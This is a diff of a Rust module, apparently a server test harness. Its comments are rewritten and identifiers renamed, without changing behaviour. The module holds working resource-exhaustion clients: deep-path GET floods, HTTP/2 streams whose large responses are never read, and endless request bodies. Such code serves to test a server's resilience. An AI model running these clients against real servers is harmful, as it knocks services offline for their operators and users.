@@ -1,4 +1,4 @@
-//! Clients that cost the host memory. None of them minds how it is refused.
+//! Clients that use the host's memory. They ignore all errors.
 
 use std::convert::Infallible;
 use std::net::SocketAddr;
@@ -19,14 +19,14 @@ use tokio::time::timeout;
 
 type Body = BoxBody<Bytes, Infallible>;
 
-/// How long an attacker stays.
+/// How long an attacker waits for a response.
 const STAY: Duration = Duration::from_secs(5);
 
 const LARGE: usize = 1 << 20;
 
-/// One request on a connection of its own, whatever comes of it.
+/// Sends one request on a new connection, and ignores the result.
 pub async fn post(address: SocketAddr, path: String, body: String) {
-    let ask = async {
+    let send = async {
         let stream = TcpStream::connect(address).await.ok()?;
         let (mut sender, connection) = http1::handshake(TokioIo::new(stream)).await.ok()?;
         tokio::spawn(connection);
@@ -34,23 +34,23 @@ pub async fn post(address: SocketAddr, path: String, body: String) {
             Request::post(path).header("host", address.to_string()).body(Full::new(Bytes::from(body))).ok()?;
         sender.send_request(request).await.ok()?.into_body().collect().await.ok()
     };
-    _ = timeout(STAY * 2, ask).await;
+    _ = timeout(STAY * 2, send).await;
 }
 
-/// Requests for paths of as many segments as a head may have.
+/// Sends requests for paths with up to 32,000 segments, which is as many as fit into a head.
 pub async fn deep_paths(address: SocketAddr) {
-    let ask = |segments: usize| async move {
+    let get = |segments: usize| async move {
         let Ok(mut stream) = TcpStream::connect(address).await else { return };
         let head = format!("GET /api/flags{} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n", "/a".repeat(segments));
         _ = stream.write_all(head.as_bytes()).await;
         _ = stream.read_to_end(&mut Vec::new()).await;
     };
     for segments in [100, 1_000, 10_000, 32_000] {
-        _ = timeout(STAY, join_all((0..8).map(|_| ask(segments)))).await;
+        _ = timeout(STAY, join_all((0..8).map(|_| get(segments)))).await;
     }
 }
 
-/// Opens an HTTP/2 connection that answers pings and lets the host send `window` bytes a stream.
+/// Opens an HTTP/2 connection that answers PINGs and accepts `window` bytes per stream.
 async fn connect(address: SocketAddr, window: u32) -> Option<http2::SendRequest<Body>> {
     let stream = TcpStream::connect(address).await.ok()?;
     let (sender, connection) = http2::Builder::new(TokioExecutor::new())
@@ -65,15 +65,20 @@ async fn connect(address: SocketAddr, window: u32) -> Option<http2::SendRequest<
     Some(sender)
 }
 
-/// What an attacker holds on to: connections with the answers that it does not read.
-pub type Kept = Vec<Option<(http2::SendRequest<Body>, Vec<Option<Response<Incoming>>>)>>;
+/// Connections that stay open, with their unread responses.
+pub type OpenConnections = Vec<Option<(http2::SendRequest<Body>, Vec<Option<Response<Incoming>>>)>>;
 
-/// Sends a request with this body on each of 200 streams of each connection, and keeps whatever
-/// comes of it.
-async fn attack(address: SocketAddr, connections: usize, window: u32, body: impl Fn() -> Body + Copy) -> Kept {
-    let connect_and_ask = |_| async move {
+/// Sends a request with this body on each of 200 streams of each connection, and keeps all
+/// responses.
+async fn attack(
+    address: SocketAddr,
+    connections: usize,
+    window: u32,
+    body: impl Fn() -> Body + Copy,
+) -> OpenConnections {
+    let connect_and_send = |_| async move {
         let sender = connect(address, window).await?;
-        let ask = |_| {
+        let send = |_| {
             let mut sender = sender.clone();
             async move {
                 sender.ready().await.ok()?;
@@ -81,19 +86,19 @@ async fn attack(address: SocketAddr, connections: usize, window: u32, body: impl
                 timeout(STAY, sender.send_request(request)).await.ok()?.ok()
             }
         };
-        let answers = join_all((0..200).map(ask)).await;
-        Some((sender, answers))
+        let responses = join_all((0..200).map(send)).await;
+        Some((sender, responses))
     };
-    join_all((0..connections).map(connect_and_ask)).await
+    join_all((0..connections).map(connect_and_send)).await
 }
 
-/// Asks for large answers, and never opens a window for them.
-pub async fn unread_answers(address: SocketAddr, connections: usize) -> Kept {
+/// Requests large responses, and never reads them.
+pub async fn unread_responses(address: SocketAddr, connections: usize) -> OpenConnections {
     attack(address, connections, 1, || Full::from(vec![b'x'; LARGE]).boxed()).await
 }
 
-/// Sends bodies that do not end.
-pub async fn endless_bodies(address: SocketAddr, connections: usize) -> Kept {
+/// Sends request bodies that do not end.
+pub async fn endless_bodies(address: SocketAddr, connections: usize) -> OpenConnections {
     let endless = || {
         let part = stream::iter([Ok::<_, Infallible>(Frame::data(Bytes::from(vec![b'x'; LARGE])))]);
         BodyExt::boxed(StreamBody::new(StreamExt::chain(part, stream::pending())))
